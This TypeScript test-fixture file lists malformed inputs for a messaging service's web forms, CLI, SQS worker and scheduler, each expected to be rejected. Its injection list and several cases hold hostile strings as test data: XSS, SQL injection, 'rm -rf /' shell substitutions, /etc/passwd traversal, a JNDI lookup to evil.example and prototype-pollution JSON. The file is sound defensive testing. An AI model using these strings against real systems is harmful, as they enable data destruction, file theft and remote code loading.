/**
 * The bad-input corpus: malformed inputs for every way in — the console's
 * message form, the CLI, SQS record bodies and scheduler invocations. Each
 * case is named; many are generated from the lists below. Every one must be
 * refused clearly (4xx / non-zero exit with a message / failed record with a
 * reason / a permanent error) with nothing stored or published.
 */

import { CURSOR_CASES } from './corpus-console';

/** Strings an attacker tries; each case puts one where it makes the input invalid. */
export const INJECTIONS: [string, string][] = [
  ['html script', '<script>alert(1)</script>'],
  ['html attribute', '"><img src=x onerror=alert(1)>'],
  ['sql drop', "'; DROP TABLE messages; --"],
  ['sql tautology', "' OR '1'='1"],
  ['shell substitution', '$(rm -rf /)'],
  ['shell backticks', '`id`'],
  ['shell chain', 'notify; cat /etc/passwd'],
  ['path traversal', '../../../../etc/passwd'],
  ['windows traversal', '..\\..\\windows\\win.ini'],
  ['nul byte', 'notify\u0000'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text is the attack
  ['template', '${jndi:ldap://evil.example/a}'],
  ['prototype key', '__proto__'],
];

/** Prototype-pollution JSON: own `__proto__` / `constructor` keys after JSON.parse. */
export const POLLUTION_JSON: [string, string][] = [
  ['__proto__ object', '{"__proto__": {"polluted": true}}'],
  ['constructor.prototype', '{"constructor": {"prototype": {"polluted": true}}}'],
  ['__proto__ beside a valid field', '{"greeting": "hi", "__proto__": {"polluted": true}}'],
];

// ── The console's form (POST /messages) ─────────────────────────────────────

export interface WebCase {
  name: string;
  /** Form fields (the CSRF token is added unless `csrf` is false). */
  fields?: Record<string, string>;
  /** A raw body instead of fields. */
  raw?: { contentType: string; body: string | Buffer };
  csrf?: boolean;
}

const BIG = 'x'.repeat(300_001);
const OVER_FIELD = 'x'.repeat(65_537);

export const WEB_CASES: WebCase[] = [
  // missing fields
  { name: 'no fields at all', fields: {} },
  { name: 'notify without a message', fields: { type: 'notify' } },
  { name: 'notify with an empty message', fields: { type: 'notify', message: '' } },
  { name: 'a message but no type', fields: { message: 'hi' } },
  { name: 'empty type', fields: { type: '', message: 'hi' } },
  { name: 'no CSRF token', fields: { type: 'notify', message: 'hi' }, csrf: false },
  {
    name: 'a forged CSRF token',
    fields: { type: 'notify', message: 'hi', _csrf: 'forged-token' },
    csrf: false,
  },
  // wrong types
  ...['high', '3.5', '-1', '0', '6', '1e3', '0x3', ' ', '99999999999999999999'].map(
    (priority): WebCase => ({
      name: `priority "${priority}"`,
      fields: { type: 'notify', message: 'hi', priority },
    }),
  ),
  ...[
    ['a number greeting', '{"greeting": 5}'],
    ['an array greeting', '{"greeting": ["hi"]}'],
    ['an object greeting', '{"greeting": {}}'],
    ['a null greeting', '{"greeting": null}'],
    ['a boolean greeting', '{"greeting": true}'],
    ['an empty greeting', '{"greeting": ""}'],
    ['an unknown payload field', '{"greting": "hi"}'],
    ['a JSON array payload', '[1, 2]'],
    ['a JSON string payload', '"hi"'],
    ['a JSON number payload', '42'],
    ['JSON null payload', 'null'],
    ['unparseable JSON', '{nope'],
    ['truncated JSON', '{"greeting": "hi"'],
    ['JSON with a trailing comma', '{"greeting": "hi",}'],
    ['single-quoted JSON', "{'greeting': 'hi'}"],
  ].map(
    ([what, payload]): WebCase => ({
      name: `hello_world with ${what}`,
      fields: { type: 'hello_world', payload },
    }),
  ),
  {
    name: 'cloudwatch_alarm with an empty payload',
    fields: { type: 'cloudwatch_alarm', payload: '{}' },
  },
  // oversized
  {
    name: 'message over the field limit (65,537 characters)',
    fields: { type: 'notify', message: OVER_FIELD },
  },
  { name: 'message over 256 KiB', fields: { type: 'notify', message: BIG } },
  { name: 'title over 250 characters', fields: { type: 'notify', message: 'hi', title: 't'.repeat(251) } },
  { name: 'title over the form cap', fields: { type: 'notify', message: 'hi', title: 't'.repeat(10_001) } },
  {
    name: 'eleven tags',
    fields: { type: 'notify', message: 'hi', tags: Array.from({ length: 11 }, (_, i) => `t${i}`).join(',') },
  },
  { name: 'a 65-character tag', fields: { type: 'notify', message: 'hi', tags: 'x'.repeat(65) } },
  { name: 'type over 64 characters', fields: { type: 'a'.repeat(65), message: 'hi' } },
  {
    name: 'greeting over 200 characters',
    fields: { type: 'hello_world', payload: `{"greeting":"${'g'.repeat(201)}"}` },
  },
  {
    name: 'payload over 256 KiB',
    fields: { type: 'hello_world', payload: `{"greeting":"${'g'.repeat(290_000)}"}` },
  },
  {
    name: 'body over the 832 KiB body limit',
    raw: {
      contentType: 'application/x-www-form-urlencoded',
      body: `type=notify&message=${'x'.repeat(840 * 1024)}`,
    },
  },
  {
    name: 'a CJK message one character over 65,536 (590 KB percent-encoded)',
    fields: { type: 'notify', message: '界'.repeat(65_537) },
  },
  {
    name: 'a JSON payload over 256 KiB in CJK, under the body limit',
    fields: { type: 'hello_world', payload: `{"greeting":"${'界'.repeat(90_000)}"}` },
  },
  // invalid UTF-8 and odd encodings
  ...[
    ['a lone continuation byte', [0x80]],
    ['an overlong encoding', [0xc0, 0xaf]],
    ['0xff 0xfe', [0xff, 0xfe]],
    ['a truncated 3-byte sequence', [0xe2, 0x82]],
    ['an encoded surrogate', [0xed, 0xa0, 0x80]],
  ].map(
    ([what, bytes]): WebCase => ({
      name: `type containing ${what}`,
      raw: {
        contentType: 'application/x-www-form-urlencoded',
        body: Buffer.concat([
          Buffer.from('type=notify'),
          Buffer.from(bytes as number[]),
          Buffer.from('&message=hi'),
        ]),
      },
    }),
  ),
  {
    name: 'percent-encoded invalid UTF-8 in the type',
    raw: { contentType: 'application/x-www-form-urlencoded', body: 'type=notify%FF%FE&message=hi' },
  },
  {
    name: 'a JSON body instead of a form',
    raw: { contentType: 'application/json', body: '{"type":"notify"' },
  },
  { name: 'a text/plain body', raw: { contentType: 'text/plain', body: 'type=notify&message=hi' } },
  { name: 'a multipart body', raw: { contentType: 'multipart/form-data; boundary=x', body: '--x--' } },
  // injection strings where they make the input invalid
  ...INJECTIONS.map(
    ([what, value]): WebCase => ({ name: `type: ${what}`, fields: { type: value, message: 'hi' } }),
  ),
  ...INJECTIONS.map(
    ([what, value]): WebCase => ({
      name: `priority: ${what}`,
      fields: { type: 'notify', message: 'hi', priority: value },
    }),
  ),
  ...[
    ['javascript URL', 'javascript:alert(1)'],
    ['data URL', 'data:text/html,<script>alert(1)</script>'],
    ['file URL', 'file:///etc/passwd'],
    ['vbscript URL', 'vbscript:msgbox(1)'],
    ['relative path traversal', '../../etc/passwd'],
    ['not a URL', 'not a url'],
    ['shell metacharacters', 'https://x.example/$(id)`id`; rm -rf /'.replace('https://', '')],
  ].map(
    ([what, click]): WebCase => ({
      name: `click: ${what}`,
      fields: { type: 'notify', message: 'hi', click },
    }),
  ),
  ...POLLUTION_JSON.map(
    ([what, payload]): WebCase => ({ name: `payload: ${what}`, fields: { type: 'hello_world', payload } }),
  ),
  // unknown types
  ...['launch_rockets', 'NOTIFY', 'notify ', ' notify', 'Notify', 'hello-world', 'invalid', '0notify'].map(
    (type): WebCase => ({ name: `unknown type "${type}"`, fields: { type, message: 'hi' } }),
  ),
];

// ── The console's schedule form (POST /schedules) ───────────────────────────

const SCHEDULE_FIELDS = {
  type: 'notify',
  name: 'standup',
  description: '',
  expression: 'cron(0 8 ? * MON-FRI *)',
  timezone: 'Europe/Berlin',
  enabled: 'on',
  message: 'Stand-up',
  action: 'save',
};

/** A valid schedule form with one field changed (or removed, with undefined). */
const schedule = (name: string, change: Record<string, string | undefined>, csrf = true): WebCase => ({
  name,
  fields: Object.fromEntries(
    Object.entries({ ...SCHEDULE_FIELDS, ...change }).filter(([, value]) => value !== undefined),
  ) as Record<string, string>,
  csrf,
});

export const SCHEDULE_WEB_CASES: WebCase[] = [
  schedule('no CSRF token', {}, false),
  schedule('a forged CSRF token', { _csrf: 'forged' }, false),
  schedule('no type', { type: undefined }),
  schedule('an unknown type', { type: 'launch_rockets' }),
  schedule('no name', { name: undefined }),
  // ("__proto__" is a name EventBridge takes, and so does Rez: no object is keyed by it.)
  ...INJECTIONS.filter(([, text]) => !/^[0-9A-Za-z_.-]{1,64}$/.test(text)).map(([what, text]) =>
    schedule(`a name with ${what}`, { name: text }),
  ),
  ...INJECTIONS.map(([what, text]) => schedule(`an expression with ${what}`, { expression: text })),
  ...INJECTIONS.map(([what, text]) => schedule(`a time zone with ${what}`, { timezone: text })),
  schedule('the built-in name', { name: 'hello-world' }),
  schedule('a 65-character name', { name: 'n'.repeat(65) }),
  schedule('a 5-field cron', { expression: 'cron(0 8 * * 1)' }),
  schedule('both day fields', { expression: 'cron(0 8 * * MON *)' }),
  schedule('hour 24', { expression: 'cron(0 24 ? * MON-FRI *)' }),
  schedule('rate of 0 minutes', { expression: 'rate(0 minutes)' }),
  schedule('rate in seconds', { expression: 'rate(30 seconds)' }),
  schedule('an at() in the past', { expression: 'at(2020-01-01T00:00:00)' }),
  schedule('an impossible at() date', { expression: 'at(2030-02-30T09:00:00)' }),
  schedule('an expression over 256 characters', { expression: `rate(${'1'.repeat(300)} minutes)` }),
  schedule('an unknown time zone', { timezone: 'Mars/Olympus' }),
  schedule('a UTC offset for a time zone', { timezone: '+02:00' }),
  schedule('a description over 512 characters', { description: 'd'.repeat(513) }),
  schedule('an empty message', { message: '' }),
  schedule('priority 9', { priority: '9' }),
  schedule('a javascript: click URL', { click: 'javascript:alert(1)' }),
  schedule('an unknown action', { action: 'launch' }),
  schedule('a message over 65,536 characters', { message: 'm'.repeat(65_537) }),
  ...POLLUTION_JSON.map(([what, json]) =>
    schedule(`a hello_world payload with ${what}`, {
      type: 'hello_world',
      message: undefined,
      payload: json,
    }),
  ),
  schedule('a hello_world payload the type refuses', {
    type: 'hello_world',
    message: undefined,
    payload: '{"greeting": 5}',
  }),
];

// ── The CLI (node packages/local/dist/cli.js …) ─────────────────────────────

export interface CliCase {
  name: string;
  args: string[];
  env?: Record<string, string>;
}

export const CLI_CASES: CliCase[] = [
  { name: 'no command', args: [] },
  { name: 'unknown command', args: ['launch'] },
  { name: 'unknown flag', args: ['send', 'notify', '--message', 'hi', '--evil'] },
  { name: 'send without a type', args: ['send'] },
  { name: 'send without a message', args: ['send', 'notify'] },
  { name: 'send an empty message', args: ['send', 'notify', '--message', ''] },
  { name: 'unknown type', args: ['send', 'launch_rockets', '--message', 'hi'] },
  { name: 'upper-case type', args: ['send', 'NOTIFY', '--message', 'hi'] },
  { name: 'type with shell metacharacters', args: ['send', 'notify;id', '--message', 'hi'] },
  { name: 'type with HTML', args: ['send', '<script>alert(1)</script>', '--message', 'hi'] },
  { name: 'type with path traversal', args: ['send', '../../etc/passwd', '--message', 'hi'] },
  { name: 'priority not a number', args: ['send', 'notify', '--message', 'hi', '--priority', 'high'] },
  { name: 'priority 0', args: ['send', 'notify', '--message', 'hi', '--priority', '0'] },
  {
    name: 'priority with SQL',
    args: ['send', 'notify', '--message', 'hi', '--priority', "1'; DROP TABLE messages; --"],
  },
  {
    name: 'click javascript URL',
    args: ['send', 'notify', '--message', 'hi', '--click', 'javascript:alert(1)'],
  },
  {
    name: 'title over 250 characters',
    args: ['send', 'notify', '--message', 'hi', '--title', 't'.repeat(251)],
  },
  { name: 'message over 65,536 characters', args: ['send', 'notify', '--message', 'm'.repeat(65_537)] },
  { name: 'eleven tags', args: ['send', 'notify', '--message', 'hi', '--tags', 'a,b,c,d,e,f,g,h,i,j,k'] },
  { name: 'payload not JSON', args: ['send', 'hello_world', '--payload', '{nope'] },
  { name: 'payload a JSON array', args: ['send', 'hello_world', '--payload', '[1,2]'] },
  { name: 'payload with wrong field type', args: ['send', 'hello_world', '--payload', '{"greeting": 5}'] },
  {
    name: 'payload with __proto__',
    args: ['send', 'hello_world', '--payload', '{"__proto__": {"polluted": true}}'],
  },
  {
    name: 'payload with constructor.prototype',
    args: ['send', 'hello_world', '--payload', POLLUTION_JSON[1][1]],
  },
  { name: 'list with an unknown status', args: ['list', '--status', "queued' OR 1=1 --"] },
  { name: 'list with limit 0', args: ['list', '--limit', '0'] },
  { name: 'list with limit 1000', args: ['list', '--limit', '1000'] },
  // A NUL cannot be a process argument at all.
  ...CURSOR_CASES.filter((cursor) => !cursor.includes('\u0000')).map(
    (cursor, i): CliCase => ({
      name: `list with forged cursor ${i + 1}`,
      args: ['list', '--cursor', cursor],
    }),
  ),
  { name: 'show without an id', args: ['show'] },
  { name: 'sessions without a subcommand', args: ['sessions'] },
  { name: 'sessions with an unknown subcommand', args: ['sessions', 'revoke', 'ana@example.com'] },
  { name: 'sessions end without a user', args: ['sessions', 'end'] },
  { name: 'sessions end of a blank user', args: ['sessions', 'end', ' \t '] },
  { name: 'sessions end of a user with a terminal escape', args: ['sessions', 'end', 'ana\u001b[2J'] },
  { name: 'sessions end of a user with a newline', args: ['sessions', 'end', 'ana\nrez: ready'] },
  {
    name: 'sessions end of a user over 254 characters',
    args: ['sessions', 'end', `${'a'.repeat(250)}@x.io`],
  },
  { name: 'redrive without ids or --all', args: ['redrive'] },
  { name: 'schedule run of an unknown schedule', args: ['schedule', 'run', '../../etc/passwd'] },
  { name: 'unknown schedule subcommand', args: ['schedule', 'delete'] },
  // schedule add / edit / pause / resume / rm / run, replay
  ...(
    [
      ['a name with a space', ['standup now', 'cron(0 8 ? * MON-FRI *)', 'UTC']],
      ['a name with path traversal', ['../../etc/passwd', 'rate(1 hour)', 'UTC']],
      ['a name with HTML', ['<script>alert(1)</script>', 'rate(1 hour)', 'UTC']],
      ['a 65-character name', ['n'.repeat(65), 'rate(1 hour)', 'UTC']],
      ['the built-in name', ['hello-world', 'rate(1 hour)', 'UTC']],
      ['a 5-field cron', ['standup', 'cron(0 8 * * 1)', 'UTC']],
      ['both day fields', ['standup', 'cron(0 8 * * MON *)', 'UTC']],
      ['minute 60', ['standup', 'cron(60 8 ? * MON-FRI *)', 'UTC']],
      ['day-of-week 0', ['standup', 'cron(0 8 ? * 0 *)', 'UTC']],
      ['rate of 0 minutes', ['standup', 'rate(0 minutes)', 'UTC']],
      ['rate of seconds', ['standup', 'rate(30 seconds)', 'UTC']],
      ['rate(1 minutes)', ['standup', 'rate(1 minutes)', 'UTC']],
      ['an at() in the past', ['standup', 'at(2020-01-01T00:00:00)', 'UTC']],
      ['an impossible at() date', ['standup', 'at(2030-02-30T09:00:00)', 'UTC']],
      ['an expression with SQL', ['standup', "rate(1 hour)'; DROP TABLE user_schedules; --", 'UTC']],
      ['an unknown time zone', ['standup', 'rate(1 hour)', 'Mars/Olympus']],
      ['a time zone with shell metacharacters', ['standup', 'rate(1 hour)', 'UTC; rm -rf /']],
      ['a time-zone offset', ['standup', 'rate(1 hour)', '+02:00']],
    ] as [string, [string, string, string]][]
  ).map(
    ([what, [name, expression, tz]]): CliCase => ({
      name: `schedule add with ${what}`,
      args: [
        'schedule',
        'add',
        name,
        '--expression',
        expression,
        '--tz',
        tz,
        '--type',
        'notify',
        '--message',
        'hi',
      ],
    }),
  ),
  { name: 'schedule add without a name', args: ['schedule', 'add'] },
  {
    name: 'schedule add without an expression',
    args: ['schedule', 'add', 'standup', '--type', 'notify', '--message', 'hi'],
  },
  {
    name: 'schedule add without a type',
    args: ['schedule', 'add', 'standup', '--expression', 'rate(1 hour)', '--message', 'hi'],
  },
  {
    name: 'schedule add of an unknown type',
    args: ['schedule', 'add', 'standup', '--expression', 'rate(1 hour)', '--type', 'launch_rockets'],
  },
  {
    name: 'schedule add without a message',
    args: ['schedule', 'add', 'standup', '--expression', 'rate(1 hour)', '--type', 'notify'],
  },
  {
    name: 'schedule add with priority 9',
    args: [
      'schedule',
      'add',
      's',
      '--expression',
      'rate(1 hour)',
      '--type',
      'notify',
      '--message',
      'hi',
      '--priority',
      '9',
    ],
  },
  {
    name: 'schedule add with a __proto__ payload',
    args: [
      'schedule',
      'add',
      's',
      '--expression',
      'rate(1 hour)',
      '--type',
      'hello_world',
      '--payload',
      POLLUTION_JSON[0][1],
    ],
  },
  {
    name: 'schedule add with a payload field the type refuses',
    args: [
      'schedule',
      'add',
      's',
      '--expression',
      'rate(1 hour)',
      '--type',
      'hello_world',
      '--payload',
      '{"greeting": 5}',
    ],
  },
  ...['pause', 'resume', 'rm', 'edit'].map(
    (sub): CliCase => ({ name: `schedule ${sub} of an unknown schedule`, args: ['schedule', sub, 'nope'] }),
  ),
  ...['pause', 'resume', 'rm', 'run', 'edit'].map(
    (sub): CliCase => ({ name: `schedule ${sub} without a name`, args: ['schedule', sub] }),
  ),
  { name: 'replay without an id', args: ['replay'] },
  { name: 'replay of an unknown id', args: ['replay', '01JH8Z5Q0A6D2N7S4X3C9B1V0M', '--message', 'hi'] },
  { name: 'replay of a forged id', args: ['replay', "' OR 1=1 --", '--message', 'hi'] },
  { name: 'wrong stage in REZ_STAGE', args: ['send', 'notify', '--message', 'hi'], env: { REZ_STAGE: 'qa' } },
  {
    name: 'shell metacharacters in REZ_STAGE',
    args: ['send', 'notify', '--message', 'hi'],
    env: { REZ_STAGE: 'prod; rm -rf /' },
  },
];

// ── SQS record bodies (the worker handler) ──────────────────────────────────

export interface SqsCase {
  name: string;
  body: string;
}

const ULID_A = '01JH8Z5Q0A6D2N7S4X3C9B1V0M';
const VALID_ENVELOPE = {
  id: ULID_A,
  type: 'notify',
  payload: { message: 'hi' },
  metadata: { created_date: '2026-03-01T12:00:00.000Z', created_by: 'test', stage: 'dev' },
  correlation_id: ULID_A,
  causation_id: null,
  hop: 0,
};
type Envelope = Record<string, unknown> & { metadata: Record<string, unknown> };
const envelope = (change: (e: Envelope) => void): string => {
  const e = structuredClone(VALID_ENVELOPE) as Envelope;
  change(e);
  return JSON.stringify(e);
};

export const SQS_CASES: SqsCase[] = [
  // not a message at all
  ...[
    ['an empty body', ''],
    ['whitespace', '   '],
    ['plain text', 'hello'],
    ['JSON null', 'null'],
    ['a JSON array', '[]'],
    ['a JSON number', '42'],
    ['a JSON string', '"notify"'],
    ['JSON true', 'true'],
    ['an empty object', '{}'],
    ['truncated JSON', '{"id":'],
    ['XML', '<message><type>notify</type></message>'],
  ].map(([what, body]): SqsCase => ({ name: `body is ${what}`, body })),
  // missing fields
  ...['id', 'type', 'payload', 'metadata', 'correlation_id', 'causation_id', 'hop'].map(
    (field): SqsCase => ({
      name: `envelope without ${field}`,
      body: envelope((e) => {
        delete e[field];
      }),
    }),
  ),
  ...['created_date', 'created_by', 'stage'].map(
    (field): SqsCase => ({
      name: `metadata without ${field}`,
      body: envelope((e) => {
        delete e.metadata[field];
      }),
    }),
  ),
  {
    name: 'notify payload without message',
    body: envelope((e) => {
      e.payload = {};
    }),
  },
  // wrong types
  ...(
    [
      [
        'id a number',
        (e) => {
          e.id = 12345;
        },
      ],
      [
        'id not a ULID',
        (e) => {
          e.id = 'not-a-ulid';
        },
      ],
      [
        'id lower-case',
        (e) => {
          e.id = ULID_A.toLowerCase();
        },
      ],
      [
        'type a number',
        (e) => {
          e.type = 5;
        },
      ],
      [
        'payload an array',
        (e) => {
          e.payload = [];
        },
      ],
      [
        'payload a string',
        (e) => {
          e.payload = 'hi';
        },
      ],
      [
        'payload null',
        (e) => {
          e.payload = null;
        },
      ],
      [
        'metadata a string',
        (e) => {
          e.metadata = 'dev' as never;
        },
      ],
      [
        'hop negative',
        (e) => {
          e.hop = -1;
        },
      ],
      [
        'hop fractional',
        (e) => {
          e.hop = 1.5;
        },
      ],
      [
        'hop a string',
        (e) => {
          e.hop = '0';
        },
      ],
      [
        'hop huge',
        (e) => {
          e.hop = 1e9;
        },
      ],
      [
        'causation_id a number',
        (e) => {
          e.causation_id = 7;
        },
      ],
      [
        'correlation_id empty',
        (e) => {
          e.correlation_id = '';
        },
      ],
      [
        'created_date not a date',
        (e) => {
          e.metadata.created_date = 'yesterday';
        },
      ],
      [
        'created_date not UTC',
        (e) => {
          e.metadata.created_date = '2026-03-01T12:00:00+02:00';
        },
      ],
      [
        'created_by empty',
        (e) => {
          e.metadata.created_by = '';
        },
      ],
      [
        'created_by over 200 characters',
        (e) => {
          e.metadata.created_by = 'c'.repeat(201);
        },
      ],
      [
        'message a number',
        (e) => {
          e.payload = { message: 5 };
        },
      ],
      [
        'message empty',
        (e) => {
          e.payload = { message: '' };
        },
      ],
      [
        'priority 0',
        (e) => {
          e.payload = { message: 'hi', priority: 0 };
        },
      ],
      [
        'priority 6',
        (e) => {
          e.payload = { message: 'hi', priority: 6 };
        },
      ],
      [
        'priority a string',
        (e) => {
          e.payload = { message: 'hi', priority: '3' };
        },
      ],
      [
        'tags a string',
        (e) => {
          e.payload = { message: 'hi', tags: 'a,b' };
        },
      ],
      [
        'markdown a string',
        (e) => {
          e.payload = { message: 'hi', markdown: 'yes' };
        },
      ],
      [
        'an unknown envelope field',
        (e) => {
          e.extra = 1;
        },
      ],
      [
        'an unknown payload field',
        (e) => {
          e.payload = { message: 'hi', sound: 'loud' };
        },
      ],
    ] as [string, (e: Envelope) => void][]
  ).map(([what, change]): SqsCase => ({ name: `envelope with ${what}`, body: envelope(change) })),
  // oversized
  {
    name: 'message over the field limit (65,537 characters)',
    body: envelope((e) => {
      e.payload = { message: 'm'.repeat(65_537) };
    }),
  },
  {
    name: 'body over 256 KiB',
    body: envelope((e) => {
      e.payload = { message: 'm'.repeat(300_000) };
    }),
  },
  {
    name: 'title over 250 characters',
    body: envelope((e) => {
      e.payload = { message: 'hi', title: 't'.repeat(251) };
    }),
  },
  {
    name: 'eleven tags',
    body: envelope((e) => {
      e.payload = { message: 'hi', tags: Array.from({ length: 11 }, (_, i) => `t${i}`) };
    }),
  },
  // invalid UTF-8 (as the bytes decode) and lone surrogates
  ...[
    [
      '0xff 0xfe before the JSON',
      Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(JSON.stringify(VALID_ENVELOPE))]),
    ],
    [
      'a lone continuation byte in the type',
      Buffer.from(
        envelope((e) => {
          e.type = 'notify\u0080';
        }).replace('\\u0080', '\u0080'),
      ),
    ],
    ['bytes cut mid-character', Buffer.from('{"id":"\xe2\x82', 'latin1')],
  ].map(
    ([what, bytes]): SqsCase => ({ name: `body with ${what}`, body: (bytes as Buffer).toString('utf8') }),
  ),
  {
    name: 'a lone surrogate in the type',
    body: envelope((e) => {
      e.type = 'notify\ud800';
    }),
  },
  // injection strings where they make the envelope invalid
  ...INJECTIONS.map(
    ([what, value]): SqsCase => ({
      name: `type: ${what}`,
      body: envelope((e) => {
        e.type = value;
      }),
    }),
  ),
  ...INJECTIONS.map(
    ([what, value]): SqsCase => ({
      name: `id: ${what}`,
      body: envelope((e) => {
        e.id = value;
      }),
    }),
  ),
  ...INJECTIONS.map(
    ([what, value]): SqsCase => ({
      name: `click: ${what}`,
      body: envelope((e) => {
        e.payload = { message: 'hi', click: value };
      }),
    }),
  ),
  {
    name: 'top-level __proto__',
    body: JSON.stringify(VALID_ENVELOPE).replace('{', '{"__proto__": {"polluted": true}, '),
  },
  {
    name: 'payload __proto__',
    body: JSON.stringify(VALID_ENVELOPE).replace(
      '{"message":"hi"}',
      '{"message":"hi","__proto__":{"polluted":true}}',
    ),
  },
  {
    name: 'metadata constructor.prototype',
    body: JSON.stringify(VALID_ENVELOPE).replace(
      '"stage":"dev"',
      '"stage":"dev","constructor":{"prototype":{"polluted":true}}',
    ),
  },
  // unknown types
  ...['launch_rockets', 'NOTIFY', 'notify ', 'invalid', 'a'.repeat(65)].map(
    (type): SqsCase => ({
      name: `unknown type "${type.slice(0, 20)}"`,
      body: envelope((e) => {
        e.type = type;
      }),
    }),
  ),
  // wrong stage
  ...['prod', 'stage', 'qa', 'DEV', ''].map(
    (stage): SqsCase => ({
      name: `stage "${stage}" at a dev worker`,
      body: envelope((e) => {
        e.metadata.stage = stage;
      }),
    }),
  ),
  // SNS envelopes around bad input
  {
    name: 'SNS envelope around text',
    body: JSON.stringify({
      Type: 'Notification',
      MessageId: 'm-1',
      TopicArn: 'arn:aws:sns:x',
      Message: 'hello',
    }),
  },
  {
    name: 'SNS envelope around an alarm without a reason',
    body: JSON.stringify({
      Type: 'Notification',
      MessageId: 'm-2',
      TopicArn: 'arn:aws:sns:x',
      Message: JSON.stringify({ AlarmName: 'a', NewStateValue: 'ALARM' }),
    }),
  },
  {
    name: 'SNS envelope around a wrong-stage message',
    body: JSON.stringify({
      Type: 'Notification',
      MessageId: 'm-3',
      TopicArn: 'arn:aws:sns:x',
      Message: envelope((e) => {
        e.metadata.stage = 'prod';
      }),
    }),
  },
];

// ── Scheduler invocations (createSchedulerHandler) ──────────────────────────

export interface SchedulerCase {
  name: string;
  input: unknown;
}

const POLLUTED = JSON.parse('{"__proto__": {"polluted": true}}') as Record<string, unknown>;

export const SCHEDULER_CASES: SchedulerCase[] = [
  ...(
    [
      ['undefined', undefined],
      ['null', null],
      ['a string', 'hello-world'],
      ['a number', 42],
      ['an array', []],
      ['an empty object', {}],
    ] as [string, unknown][]
  ).map(([what, input]): SchedulerCase => ({ name: `input is ${what}`, input })),
  { name: 'without schedule', input: { type: 'hello_world', payload: {} } },
  { name: 'without type', input: { schedule: 'hello-world', payload: {} } },
  { name: 'schedule a number', input: { schedule: 5, type: 'hello_world' } },
  { name: 'type a number', input: { schedule: 'hello-world', type: 5 } },
  { name: 'payload an array', input: { schedule: 'hello-world', type: 'hello_world', payload: [] } },
  { name: 'payload a string', input: { schedule: 'hello-world', type: 'hello_world', payload: 'hi' } },
  { name: 'payload null', input: { schedule: 'hello-world', type: 'hello_world', payload: null } },
  { name: 'notify payload without message', input: { schedule: 'x', type: 'notify', payload: {} } },
  { name: 'greeting a number', input: { schedule: 'x', type: 'hello_world', payload: { greeting: 5 } } },
  {
    name: 'payload over 256 KiB',
    input: { schedule: 'x', type: 'notify', payload: { message: 'm'.repeat(300_000) } },
  },
  {
    name: 'greeting over 200 characters',
    input: { schedule: 'x', type: 'hello_world', payload: { greeting: 'g'.repeat(201) } },
  },
  { name: 'an extra stage field', input: { schedule: 'x', type: 'hello_world', payload: {}, stage: 'prod' } },
  {
    name: 'an extra created_by field',
    input: { schedule: 'x', type: 'hello_world', created_by: 'web:root' },
  },
  { name: 'a __proto__ payload', input: { schedule: 'x', type: 'hello_world', payload: POLLUTED } },
  ...['launch_rockets', 'NOTIFY', 'invalid', 'cloudwatch_alarm'].map(
    (type): SchedulerCase => ({ name: `type "${type}"`, input: { schedule: 'x', type, payload: {} } }),
  ),
  // "__proto__" is a well-formed schedule name (letters and _), so it is not in this list.
  ...INJECTIONS.filter(([what]) => what !== 'prototype key').map(
    ([what, value]): SchedulerCase => ({
      name: `schedule: ${what}`,
      input: { schedule: value, type: 'hello_world' },
    }),
  ),
  ...INJECTIONS.map(
    ([what, value]): SchedulerCase => ({ name: `type: ${what}`, input: { schedule: 'x', type: value } }),
  ),
  { name: 'a lone surrogate in the type', input: { schedule: 'x', type: 'hello_world\ud800' } },
];
export * from './corpus-console';
export * from './corpus-runtime';
